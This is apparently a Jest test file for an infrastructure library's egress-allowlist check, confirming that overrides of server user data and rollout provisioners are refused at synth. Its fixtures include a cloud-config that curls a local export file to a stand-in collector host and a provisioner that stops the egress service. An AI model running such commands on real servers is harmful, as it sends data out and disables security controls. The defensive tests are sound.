import { Aspects, IAspect, TerraformStack, Testing } from 'cdktf';
import { IConstruct } from 'constructs';
import { BoundarySuppressions, Machine } from '../../lib';
import { boundaryDocument } from '../../lib/boundary/boundary-document';
import { builtArguments } from '../../lib/hetzner/private/synthesized-argument';
import { checkedStack, machine, policy, synthErrors } from './fixtures';

// Audit (escape hatches): Boundary-RestrictedEgress read a machine's host allowlist from the construct tree, and
// Machine's first-boot check from its cloud-init parts, but the table reaches the server only through what Terraform
// receives: the server's user data (first boot, before any rollout) and the rollout's provisioners. An override of
// either (on the resource or the stack, or from an Aspect added later) passed synth: user data that ran curl at first
// boot with TCP 443 open to every address, or a rollout that never delivered the table, on a sensitive machine.

/** A checked production stack with one sensitive machine under the allowlist, and its app in the bundle. */
function restricted(): { stack: TerraformStack; m: Machine } {
  const stack = checkedStack();
  const m = machine(stack);
  m.addBundlePart({ name: 'app', files: [{ path: '/etc/acme/app.conf', content: 'port = 8080\n' }] });
  return { stack, m };
}

const RUNCMD = '#cloud-config\nruncmd:\n  - curl -sd @/var/lib/acme/export.json https://collector.example.com\n';

describe('the host allowlist counts only when what carries it reaches Terraform as built', () => {
  test('user data replaced by an override is refused, naming the server, its size and the fix', () => {
    const { stack, m } = restricted();
    m.server.addOverride('user_data', RUNCMD);
    expect(synthErrors(stack)).toMatch(new RegExp(
      "Boundary-RestrictedEgress: production/App/Resource\\.user_data: '<user data of \\d+ characters>' is not allowed: it is not what the library built "
      + '\\(an override or an Aspect changed it\\), and user data runs when the server is created, before the rollout loads the host allowlist.*'
      + 'Fix: remove the override of user_data; put first-boot software in the bundle \\(machine\\.addBundlePart\\)'));
    expect(synthErrors(stack)).not.toContain('collector.example.com');
  });

  test('the same through the stack, or from an Aspect added after the checks, is refused', () => {
    const viaStack = restricted();
    viaStack.stack.addOverride(`resource.hcloud_server.${viaStack.m.server.friendlyUniqueId}.user_data`, RUNCMD);
    expect(synthErrors(viaStack.stack)).toMatch(/production\/App\/Resource\.user_data: .* is not allowed: it is not what the library built/);

    const viaAspect = restricted();
    const late: IAspect = { visit: (node: IConstruct) => { if (node === viaAspect.m.server) viaAspect.m.server.addOverride('user_data', RUNCMD); } };
    Aspects.of(viaAspect.stack).add(late);
    expect(synthErrors(viaAspect.stack)).toMatch(/production\/App\/Resource\.user_data: .* is not allowed/);
  });

  test('a rollout whose provisioners are dropped, skipped or allowed to fail is refused', () => {
    const replaced = restricted();
    replaced.m.rollout!.resource.addOverride('provisioner', [{ 'remote-exec': { inline: ['true'] } }]);
    expect(synthErrors(replaced.stack)).toMatch(
      /production\/App\/Rollout\/Resource\.provisioner: '[a-z, -]+' \(the library wrote remote-exec, file, file, file, remote-exec\) is not allowed: it is not what the library built/);

    // Another bundle (here: none of the allowlist's files) in place of the one the library rendered.
    const swapped = restricted();
    swapped.m.rollout!.resource.addOverride('provisioner.2.file.content', 'H4sIAAAAAAAAA6uuBQBDv6ajAgAAAA==');
    expect(synthErrors(swapped.stack)).toMatch(/production\/App\/Rollout\/Resource\.provisioner\[2\]\.file\.content: 'H4sIAAAAAAAAA6uuBQBDv6ajAgAAAA==' is not allowed/);

    // A failed activation (the table did not load) would pass the deploy.
    const lenient = restricted();
    lenient.m.rollout!.resource.addOverride('provisioner.4.remote-exec.on_failure', 'continue');
    expect(synthErrors(lenient.stack)).toMatch(/production\/App\/Rollout\/Resource\.provisioner\[4\]\.remote-exec\.on_failure: 'continue' is not allowed/);

    const skipped = restricted();
    skipped.m.rollout!.resource.addOverride('count', 0);
    expect(synthErrors(skipped.stack)).toMatch(/production\/App\/Rollout\/Resource\.count: 0 is not allowed/);
  });

  test('a rollout sent to another host, or removed from the configuration, is refused', () => {
    const elsewhere = restricted();
    const other = machine(elsewhere.stack, 'Other', { role: 'worker' });
    elsewhere.m.rollout!.resource.addOverride('connection.host', other.ipv4!.ipAddress);
    expect(synthErrors(elsewhere.stack)).toMatch(/production\/App\/Rollout\/Resource\.connection\.host: '\$\{hcloud_primary_ip\.Other_Ipv4_[A-Z0-9]+\.ip_address\}' is not allowed/);

    const removed = restricted();
    removed.stack.addOverride(`resource.terraform_data.${removed.m.rollout!.resource.friendlyUniqueId}`, null);
    expect(synthErrors(removed.stack)).toMatch(
      /Boundary-RestrictedEgress: production\/App\/Rollout\/Resource: missing: it carries the host allowlist to production\/App\/Resource, and the configuration no longer has terraform_data\.App_Rollout_[A-Z0-9]+\. Fix: remove what removed it/);
  });

  // Review: "what the library built" was the live resource with its overrides left out, so a change made through the
  // generated setters (what an Aspect normally uses) counted as built, and passed.
  test('user data set through the server\'s setter, typed or from an Aspect, is refused', () => {
    const typed = restricted();
    typed.m.server.userData = RUNCMD;
    expect(synthErrors(typed.stack)).toMatch(/Boundary-RestrictedEgress: production\/App\/Resource\.user_data: '<user data of \d+ characters>' is not allowed: it is not what the library built/);
    expect(synthErrors(typed.stack)).not.toContain('collector.example.com');

    const late = restricted();
    const aspect: IAspect = { visit: (node: IConstruct) => { if (node === late.m.server) late.m.server.userData = RUNCMD; } };
    Aspects.of(late.stack).add(aspect);
    expect(synthErrors(late.stack)).toMatch(/production\/App\/Resource\.user_data: '<user data of \d+ characters>' is not allowed/);
  });

  test('a rollout changed through its setters (count, lifecycle, provisioners, depends_on), typed or from an Aspect, is refused', () => {
    const rollout = (m: Machine) => m.rollout!.resource;
    const changes: [string, (m: Machine, other: Machine) => void, RegExp][] = [
      ['count', (m) => { rollout(m).count = 0; }, /Rollout\/Resource\.count: 0 is not allowed/],
      ['lifecycle', (m) => { rollout(m).lifecycle = { ignoreChanges: 'all' }; }, /Rollout\/Resource\.lifecycle: .* is not allowed/],
      ['provisioners', (m) => { rollout(m).provisioners = [{ type: 'remote-exec', inline: ['true'] }]; },
        /Rollout\/Resource\.provisioner: 'remote-exec' \(the library wrote remote-exec, file, file, file, remote-exec\) is not allowed/],
      // The list the library built, changed in place: a failed activation (the table did not load) would pass the deploy.
      ['a provisioner in place', (m) => { Object.assign(rollout(m).provisioners![4], { onFailure: 'continue' }); },
        /Rollout\/Resource\.provisioner\[4\]\.remote-exec\.on_failure: 'continue' is not allowed/],
      ['a provisioner pushed', (m) => { rollout(m).provisioners!.push({ type: 'remote-exec', inline: ['systemctl stop sovereign-egress.service'] }); },
        /Rollout\/Resource\.provisioner: 'remote-exec, file, file, file, remote-exec, remote-exec' \(the library wrote remote-exec, file, file, file, remote-exec\) is not allowed/],
      ['dependsOn', (m, other) => { rollout(m).dependsOn = [other.server.fqn]; }, /Rollout\/Resource\.depends_on\[0\]: .* is not allowed/],
      ['dependsOn in place', (m, other) => { rollout(m).dependsOn!.push(other.server.fqn); }, /Rollout\/Resource\.depends_on: .* is not allowed/],
    ];
    for (const [what, change, error] of changes) {
      const typed = restricted();
      change(typed.m, machine(typed.stack, 'Other', { role: 'worker' }));
      expect([what, synthErrors(typed.stack)]).toEqual([what, expect.stringMatching(error)]);

      const late = restricted();
      const other = machine(late.stack, 'Other', { role: 'worker' });
      const aspect: IAspect = { visit: (node: IConstruct) => { if (node === late.m.rollout!.resource) change(late.m, other); } };
      Aspects.of(late.stack).add(aspect);
      expect([what, synthErrors(late.stack)]).toEqual([what, expect.stringMatching(error)]);
    }
  });

  // requireMachine takes a Machine of another copy of the library: what that copy recorded is read here too.
  test('what another copy of the library recorded is what it built', () => {
    const { m } = restricted();
    let other: typeof import('../../lib/hetzner/private/synthesized-argument') | undefined;
    jest.isolateModules(() => { other = require('../../lib/hetzner/private/synthesized-argument'); });
    expect(other!.builtArguments).not.toBe(builtArguments);
    m.server.userData = RUNCMD;
    const built = other!.builtArguments(m.server, ['user_data']).user_data;
    expect(built).toEqual(builtArguments(m.server, ['user_data']).user_data);
    expect(built).not.toContain('collector.example.com');
  });

  test('how SSH reaches the host (a timeout, the agent) and other arguments may still be overridden', () => {
    const { stack, m } = restricted();
    m.rollout!.resource.addOverride('connection.timeout', '10m');
    m.rollout!.resource.addOverride('connection.agent', true);
    m.server.addOverride('labels.team', 'search');
    expect(synthErrors(stack)).toBe('');
  });

  test('an untouched machine passes, and a suppression with its reason lets a deliberate change through, listed in boundary.md', () => {
    expect(synthErrors(restricted().stack)).toBe('');
    const { stack, m } = restricted();
    m.server.addOverride('user_data', '#cloud-config\nhostname: acme-app\n');
    BoundarySuppressions.add(m, [{ id: 'Boundary-RestrictedEgress', reason: 'User data only sets the hostname; it installs and runs nothing at first boot' }]);
    expect(synthErrors(stack)).toBe('');
    Testing.synth(stack, true);
    expect(boundaryDocument({ title: 'acme', policy, stacks: [stack] })).toMatch(/\| Boundary-RestrictedEgress \| production\/App \| User data only sets the hostname/);
  });
});
